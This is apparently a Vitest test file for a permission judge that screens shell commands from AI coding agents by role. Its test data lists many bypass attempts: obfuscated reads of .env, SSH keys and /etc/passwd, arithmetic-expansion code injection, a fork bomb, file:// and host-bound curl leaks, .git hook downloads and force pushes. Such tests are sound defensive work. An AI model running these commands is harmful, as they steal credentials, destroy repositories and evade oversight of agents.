import { describe, expect, test } from "vitest";
import { judgeCommand } from "../../../src/core/policy/judge.ts";
import type { Entry } from "../../../src/core/policy/world.ts";
import { describedWorld } from "./described-world.ts";
import { rolePolicy } from "./real-world.ts";

const folders: Readonly<Record<string, readonly Entry[]>> = {
  "/work": [
    { name: "src", kind: "folder" },
    { name: "a.ts", kind: "file" },
    { name: ".env", kind: "file" },
    { name: "id_rsa", kind: "file" },
  ],
  "/work/src": [{ name: "a.ts", kind: "file" }],
};

const world = describedWorld({ list: (path) => folders[path] });

const elsewhere = [
  "./ls src",
  "src/git log",
  "/work/cat a.ts",
  "/usr/bin/x/ls",
  "./timeout 5 ls",
  "./bash -c ls",
  "./node --version",
  "/opt/bin/../../work/ls",
];

const developer = rolePolicy("developer");
const reviewer = rolePolicy("code-review-specialist");

const functions = [
  "git() { :; }; unset -f git; git push -f",
  "git() { :; }; bash -c 'git push -f'",
  "git() { :; }; sh -c 'git commit -am x'",
  "x() { git() { :; }; }; git push -f",
  "ls() { git() { :; }; }; git reset --hard",
  "git() { :; }; eval 'unset -f git'; git push",
  "git() { unset -f git; git push; }; git",
  "cat() { :; }; unset -f cat; cat .env",
  "rm() { :; }; unset -f rm; rm -rf .git",
  "npm() { :; }; unset -f npm; npm publish",
  'git() { command git "$@"; }; git push',
  ":(){ :|:& };:",
  "a() { b & }; b() { a & }; a",
  "cd() { :; }; cd src && cat ../secretout",
  "true && cd() { :; }; cd src && cat ../secretout",
  "echo() { printf 'git push'; }; echo ls | bash",
];

const places = [
  "cd src && cd - && cat ../secretout",
  "pushd src && popd && cat ../secretout",
  "pushd -n src && cat ../secretout",
  "OLDPWD=/etc; cd -; cat passwd",
  "export OLDPWD=/etc; cd -- -; cat passwd",
  "read OLDPWD <<< /etc; cd -; cat passwd",
  "pushd src >/dev/null && echo y > a && popd >/dev/null && echo x > ../evil",
  "cd src && cd -- - && echo x > ../evil",
  "PWD=/etc; cat ~+/passwd",
  "pushd src && pushd && cat ../secretout",
  "cd - && cat passwd",
  "(cd src); cd - && cat passwd",
];

const options = [
  `jq -n 'import "auth" as $a {search:"/root/.pi/agent"}; $a'`,
  `jq -nL. 'import "secrets" as $a; $a'`,
  `jq -n 'include "x"; 1'`,
  `jq -n 'include"x"; 1'`,
  "echo '\"auth\"' | jq modulemeta",
  "jq --library-path /root/.pi -n '1'",
  "shopt -s nocaseglob; cat .E*",
  "bash -O nocaseglob -c 'cat .E*'",
  "bash -Oc nocaseglob 'cat .E*'",
  "bash -Oc extglob 'git push -f'",
  "bash -oc errexit 'git push -f'",
  "shopt -s cdable_vars; d=/etc; cd d; cat passwd",
  "shopt -s lastpipe",
  "set -k; git log GIT_EXTERNAL_DIFF=x",
  "gawk -dpwn 1 package.json",
  "gawk --dump-variables=pwn 1 package.json",
  "gawk -opwn 1 package.json",
  "gawk --pretty-print=pwn 1 package.json",
  "gawk -ppwn 1 package.json",
  "awk -F: -Sdpwn 1 package.json",
  "tree --fromfile .env",
  "git fsck --lost-found",
  "git archive --remote=host:/x HEAD",
  "date -s '2020-01-01'",
  "date --set=2020-01-01",
  "date 010112002026",
  "git ls-files -z | xargs -0 cat",
  "git ls-files | xargs -n1 git show",
  "git ls-files | xargs -I{} git show HEAD:{}",
  "git ls-files '*rsa' | xargs cat",
  "git ls-files id_rsa | xargs cat",
  "rg --files | xargs cat",
  'git ls-files | while read -r f; do cat < "$f"; done',
  "git show HEAD -- '.en*'",
  "git show HEAD -- '[.]env'",
  "git log -p -- '*nv'",
  "git show HEAD -- '*.pe?'",
  "git show HEAD -- 'server.k*'",
  "git diff HEAD -- 'src/i?_rsa'",
  "echo HEAD:id_rsa | git cat-file --batch",
  "git cat-file --batch <<< HEAD:.env",
  "git cat-file --batch-command <<< 'contents HEAD:.env'",
];

const takenBack = [
  "git branch --list --no-list -D old",
  "git branch -l --no-li new",
  "git branch --show-current --no-show-current new",
  "git branch --points-at HEAD --no-points-at new",
  "git tag --points-at HEAD --no-points-at new",
  "git config --get --no-get core.hooksPath /tmp/x",
  "git clean -n --no-dry-run -f",
  "git clean --dry-run --no-dry -f",
  "git restore --staged --no-staged --worktree a.ts",
  "git apply --check --no-check a.patch",
  "git -c core.fsmonitor=/tmp/x clean --dry-run",
  "git -c core.fsmonitor=/tmp/x restore --staged a.ts",
  "git -c core.hooksPath=/tmp/x branch --list",
  "git --exec-path=/tmp/x branch --list",
  "git --config-env=core.fsmonitor=X apply --check a.patch",
];

const calls = [
  "grep --regex=TOKEN .env",
  "sed --expr=p .env",
  "jq --tab . id_rsa",
  "strings @id_rsa",
  "diff -N . src",
  "rg --hidden -E utf8 TOKEN",
  "rg --hidden --color always TOKEN",
  "ag -u -A 3 TOKEN",
  "ag -A TOKEN .env",
  "gawk --assign x=1 'BEGIN{system(\"git push -f\")}'",
  "gawk --assig x=1 'BEGIN{system(\"git push -f\")}'",
  "curl 'file:///work/.en{v}'",
  "curl 'file:///work/.en[v-v]'",
  "curl file:///work/%2eenv",
  "curl --proto-default file /work/.env",
  "curl -sK cfg",
  "curl --conf cfg",
  "curl --unix-socket /var/run/docker.sock http://x/containers/json",
  "http POST https://api.github.com/repos/a/b/merges",
  "rsync src host:/srv",
];

const pushes = [
  "git push --no-verify origin x",
  "git push --no-veri origin x",
  "git push -o merge_request.merge_when_pipeline_succeeds origin x",
  "git push --push-opt=ci.skip origin x",
  "git push origin 'refs/*:refs/*'",
  "git push origin 'refs/tags/*'",
];

const words = [
  "grep -r . --exclude=.env --include=.env .",
  "grep -r . --exclude='.[x]nv' .",
  "grep -r . --include='.e[n]v' .",
  "rg --hidden --type-add 'x:.env' -tx .",
  "enable -n cd; cd src; cat ../secretout",
  "printenv --null",
  'jq "$f" a.json',
  "jq -f filter.jq package.json",
  'yq "$f" a.yml',
  "cat .?/secretout",
  "cat .*/secretout",
  "cat .[.]/secretout",
  "grep -r x .?",
  "cat .en$!v",
  'cat ".en$!v"',
  "cat .en$" + "{!}v",
  "dd if=a.ts of=~+/../evil",
  "dd if=~+/../secretout",
  "cat \\\n~+/../secretout",
  "cat {a}b,.env}",
  "cat $(git rev-parse .env)",
  "cat .en$(git rev-parse --verify nope)v",
  "cat .en$(git merge-base HEAD nope)v",
  "x='\\.\\./secretou*'; cat $x",
  "x='.e[[:alpha:]]v'; cat $x",
  "y='b]/../../secre'; cat a[$y[t]*",
  "cat .e[']'n]v",
  'cat .e["]"n]v',
  "cat .e[\\]n]v",
  "cat .e[[:alpha:]]v",
  "cat .e[[.n.]]v",
  "cat .e[!]x]v",
  "cat .e[^]x]v",
  "cat .e[]n]v",
  "find . -name '.e[[:alpha:]]v' | xargs cat",
  "git show HEAD -- '.e[[:alpha:]]v'",
  "git show HEAD -- '.e[a:n]v'",
  "git show HEAD -- ':(top).e[mn]v'",
  "shopt -s extglob; cat @(.e)nv",
  "shopt -s extglob; cat ?(x).env",
  "grep -r x .*",
  'set -- -exec rm; find . "$@"',
];

/** What is read in another way than it looks: by other shells, by arithmetic, by variables that steer bash itself. */
const readings = [
  "sh -c \"echo \\$'\\\\'; touch pwned #'\"",
  "sh -c '((ls>pwned))'",
  "sh -c '((cat<id_ed25519))'",
  "sh -c '[[ a > README.md ]]'",
  "zsh -c 'echo *(e:\"touch pwned\":)'",
  "zsh -c 'x=QQenv; cat .$x[3,5]'",
  "f() { (($1)); }; f 'a[$(touch p)]'",
  "x=$(printf 'a[$%s' '(touch pwned)]'); echo $((x))",
  "x=$(printf 'a[$%s' '(touch pwned)]'); [[ x -eq 1 ]]",
  "x=$(printf 'a[$%s' '(touch pwned)]'); test -v \"$x\"",
  "x=$(printf 'a[$%s' '(touch pwned)]'); declare -i y=$x",
  "while read n; do echo $((n+1)); done < evil.txt",
  "x=$(cat evil.txt); echo $((x))",
  `x=$(cat evil.txt); echo \${HOME:x:1}`,
  `x=$(cat evil.txt); echo \${a[x]}`,
  "x=$(cat evil.txt); [[ $x -gt 3 ]]",
  "x=$(cat evil.txt); ((x > 3))",
  "for x in 'a[$(touch p)]'; do ((x)); done",
  "read x <<< 'a[$(touch p)]'; ((x))",
  ": 'a[$(touch p)]'; ((_))",
  "[[ 'a[$(touch p)]' =~ .* ]]; ((BASH_REMATCH))",
  "bash -c '(($1))' x 'a[$(touch p)]'",
  `: \${x:='a[$(touch p)]'}; ((x))`,
  "declare -i y; read y <<< 'a[$(touch p)]'",
  "BASH_CMDS[cat]=/usr/bin/touch; cat pwned",
  "hash -rp /usr/bin/touch cat; cat pwned",
  "MAGIC=.env file README.md",
  "cat $'\\x{2e}env'",
  "$'\\x{67}it' commit -qam x",
  "x=env; local x=Q; cat .$x",
  "x=git; local x=Q; echo y > .$x/config",
  "x=Q; read -ax <<< env; cat .$x",
  "cat id_ed$((25519))",
  "((IFS=7)); x=a7.npmrc; cat $x",
  "exec {IFS}<README.md; x=README.md1/etc/passwd; cat $x",
  "((GLOBIGNORE=1)); cat box/*",
  "((GLOBIGNORE++)); cat box/*",
  "exec {GLOBIGNORE}<README.md; cat box/*",
  "declare -i q='GLOBIGNORE=1'; cat box/*",
  "((POSIXLY_CORRECT=1)); export POSIXLY_CORRECT; head README.md -n .npmrc",
  "coproc PATH { ls; }; cat README.md",
  "git show --name-only --format=tformat:/root/.ssh/id_rsa HEAD | xargs cat",
  "git diff --name-only --line-prefix=/root/ | xargs cat",
  "foo 'git commit -qam x'",
  "for i in 1 2; do ((x)); x=$(cat evil.txt); done",
  "x=$(cat evil.txt); let x",
  "x=$(cat evil.txt); echo $[x]",
  "x=$(cat evil.txt); a=([x]=1)",
  "x=$(cat evil.txt); a[x]=1",
  "x=$(cat evil.txt); a[$x]=1",
  "x=$(cat evil.txt); for ((i=x;;)); do ls; done",
  "x=$(cat evil.txt); read 'b[x]' < f",
  "x=$(cat evil.txt); printf -v 'b[x]' 1",
  "RANDOM=$(cat evil.txt)",
  "x='y+z'; read z < evil.txt; echo $((x))",
  "while read -r n; do [[ $n -gt 3 ]] && echo big; done < f",
  "x=_ed25519; (exit 19); cat id_ed255$?",
  "a=255; cat id_ed$a$((19))",
  `sh -c 'x=.e; x+=foo; cat \${x}nv'`,
  "sh -c 'x=git; declare x=Q; echo y > .$x/config'",
  'sh -c "eval \'echo \\$\\"x\\"\'"',
];

const quotedCommands = ["vim.basic -es -c '!git commit -qam x'", "foo \"'git commit -qam x'\""];

const harmless = [
  "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
  "i=0; while (( i < 3 )); do ((i++)); echo $i; done",
  "for i in 1 2 3; do echo $((i*2)); done",
  "count=0; ((count++)); echo $count",
  "echo $(( $(nproc) / 2 ))",
  "n=$(wc -l < f); echo $((n+1))",
  "n=$(git rev-list --count HEAD); echo $((n-1))",
  "start=$(date +%s); npm test; echo $(( $(date +%s) - start ))",
  'while IFS= read -r l; do echo "$l"; done < README.md',
  'IFS=, read -r a b <<< "x,y"',
  "for ((i=0; i<3; i++)); do echo $i; done",
  "x=5; [[ $x -gt 3 ]] && echo yes",
  "[[ $? -eq 0 ]] && echo ok",
  "if (( $# > 0 )); then echo args; fi",
  `s=abc; echo \${s:0:2} \${s: -1}`,
  `a=(x y z); echo \${a[0]} \${a[@]} \${#a[@]}`,
  `a=(x y z); for i in "\${!a[@]}"; do echo $i; done`,
  "sh -c 'echo hello; ls'",
  "sh -c 'for f in src/*; do wc -l \"$f\"; done'",
  "sh -c 'if [ -f README.md ]; then echo $((1+2)); fi'",
  "sh -c 'x=$(git rev-parse HEAD); echo \"$x\"'",
  "bash -c '[[ -f README.md ]] && echo yes'",
  'sed -n "$((10-5)),$((10+5))p" README.md',
  'echo "exit $?"',
  "head -n $((5*2)) README.md",
  'for i in {1..3}; do echo "run $i: $((i+1))"; done',
  'x=10; while [ "$x" -gt 0 ]; do x=$((x-1)); done',
  "let n=1+2; echo $n",
  "[ $# -gt 0 ] && echo many",
  "declare -i n=0; n+=1; echo $n",
  "for i in $(seq 1 3); do echo $((i*2)); done",
  "test -v HOME && echo set",
  "n=0; for f in src/*; do n=$((n+1)); done; echo $n",
  "n=$(ls | wc -l); echo $((n*2))",
  "grep -c x README.md; echo $(( $(grep -c x README.md) + 1 ))",
  'total=0; for n in 1 2 3; do ((total+=n)); done; echo "$total"',
  "f() { local n=0; ((n++)); echo $n; }; f",
  "seq 1 3 | xargs -n1 sh -c 'echo \"$0\"'",
  `declare -A m=([foo]=1 [bar]=2); echo \${m[foo]}`,
  "echo $((RANDOM % 10))",
  `(( \${#s} > 3 )) && echo long`,
  "git log --no-merges --no-color",
  "diff a.ts src/a.ts",
  "gawk --assign x=1 '{ print x }' a.ts",
  "yq .name a.yaml",
  "curl -s http://localhost:3000/a",
  "git branch --merged HEAD --no-merged next",
  "git apply --check a.patch",
  "cat src/[a-z].ts",
  "cat src/[[:alpha:]].ts",
  "cat .github/*.md",
  "ls -d .*",
  "kill $!",
  'wait "$!"',
  "git diff $(git merge-base HEAD main)",
  "jq .imports package.json",
  "jq --arg v \"$v\" '.version = $v' package.json",
  "rg -n x -g '!dist' src",
  "grep -rn x --include='*.ts' --exclude-dir=dist src",
  `jq -r '.[] | select(.a == "import")' a.json`,
  "awk -F: '{ print $1 }' a.ts",
  "awk -F d -v o=1 '{ print $1 }' a.ts",
  "shopt -s globstar nullglob; wc -l src/*",
  "set -euo pipefail; npm test",
  "bash -euo pipefail -c 'npm test'",
  "date +%Y-%m-%d",
  "date -d yesterday +%s",
  "tree -L 2",
  "git fsck",
  "git ls-files | xargs wc -l",
  "git ls-files '*.ts' | xargs cat",
  "git ls-files src | xargs grep -n x",
  "git diff HEAD -- '*.ts' 'src/*.json'",
  "git log -- 'test*'",
  "git cat-file --batch-check <<< HEAD",
  "pushd src && npm test && popd",
  "cd src && npm test && cd -",
  "cd src && cat a.ts && cd - && cat a.ts",
  "f() { npm test; }; f",
];

describe.each([
  ["developer", developer],
  ["code-review-specialist", reviewer],
])("%s", (_, policy) => {
  test.each([
    ...readings,
    ...quotedCommands,
    ...functions,
    ...places,
    ...options,
    ...words,
    ...takenBack,
    ...calls,
  ])("is not allowed %s", (line) => {
    expect(judgeCommand(line, policy, world).decision).not.toBe("allow");
  });
});

test.each(harmless)("a developer may run %s", (line) => {
  expect(judgeCommand(line, developer, world)).toMatchObject({ decision: "allow" });
});

test.each(elsewhere)("a reviewer may not %s, a program that may be anything", (line) => {
  expect(judgeCommand(line, reviewer, world).decision).toBe("deny");
});

test.each(["/bin/ls src", "/usr/bin/ls src", "/usr/local/bin/git log"])("a reviewer may %s", (line) => {
  expect(judgeCommand(line, reviewer, world).decision).toBe("allow");
});

test("what the user allows may stand anywhere", () => {
  const own = rolePolicy("explore", {
    layer: "user",
    origin: "user",
    permissions: {
      bash: { allow: ["check *"], ask: [], deny: [] },
      paths: { protected: [], secret: [], readable: [], writable: [] },
    },
  });
  expect(judgeCommand("./check all", own, world)).toMatchObject({ decision: "allow", rule: "check *" });
});

test.each(pushes)("ops may not %s", (line) => {
  expect(judgeCommand(line, rolePolicy("ops"), world).decision).toBe("deny");
});

test.each(["git apply --check --apply a.patch", "git apply --stat --app a.patch"])(
  "a reviewer may not %s, which applies it after all",
  (line) => {
    expect(judgeCommand(line, reviewer, world).decision).toBe("deny");
  },
);

test.each([
  "while read x; do [ $x ]; done < evil.txt",
  "x=$(cat evil.txt); [ $x -gt 3 ]",
  `x=$(cat evil.txt); test $\{x}`,
  "[ $(cat evil.txt) -gt 3 ]",
  "command [ $(cat evil.txt) ]",
  "f() { [ $1 ]; }; f a",
])("what is split may become -v, which runs code: %s", (line) => {
  expect(judgeCommand(line, developer, world).decision).toBe("ask");
  expect(judgeCommand(line, reviewer, world).decision).toBe("deny");
});

test.each([
  'x=$(cat a.ts); [ "$x" -gt 3 ]',
  "[ -z $CI ] && ls",
  `[ -z $\{CI} ] && ls`,
  "ls; [ $? -eq 0 ]",
  "ls & [ $! -gt 0 ]",
  "n=$(wc -l < a.ts); [ $n -gt 3 ] && ls",
  "[ $(git rev-list --count HEAD) -gt 3 ] && ls",
  "for f in src/*; do test -f $f && cat $f; done",
])("a developer may test %s", (line) => {
  expect(judgeCommand(line, developer, world).decision).toBe("allow");
});

test.each([
  "curl -sO http://host/CODEOWNERS",
  "curl -s --remote-name-all http://host/a http://host/.env?x",
  "curl --output-dir .git/hooks -O http://host/a",
  "cd .git/hooks && curl -O http://host/pre-commit",
  'x=$(cat a); curl -O "http://host/$x"',
  "curl -OJ http://host/a",
  "curl -s -w @.env http://host/a",
  "wget -qx -nH http://host/.git/hooks/pre-commit",
  "wget -q -r -nH http://host/.git/hooks/",
  "wget http://host/%43ODEOWNERS",
  "wget -P .github http://host/a",
])("what a download writes has its name from the address: %s", (line) => {
  expect(judgeCommand(line, developer, world).decision).not.toBe("allow");
});

test.each([
  `cargo run --config 'target.x.runner=["bash","-c","tac .en?"]'`,
  "go test -exec 'tac .en?' ./...",
  "npm test --script-sh=./e.sh",
  "npx --script-shell=./e.sh vitest",
  "pnpm test --config.script-shell=./x",
  "python manage.py shell <<< 'x'",
  "echo x | psql db",
  "uv run python -c 'import os'",
  "yarn node -e 1",
  "npx concurrently 'g\"\"it push'",
  "hyperfine 'tac .env'",
  "npx @openai/codex exec x",
  "./mvnw clean deploy",
])("a program is told by its words to run something: %s", (line) => {
  expect(judgeCommand(line, developer, world).decision).not.toBe("allow");
});
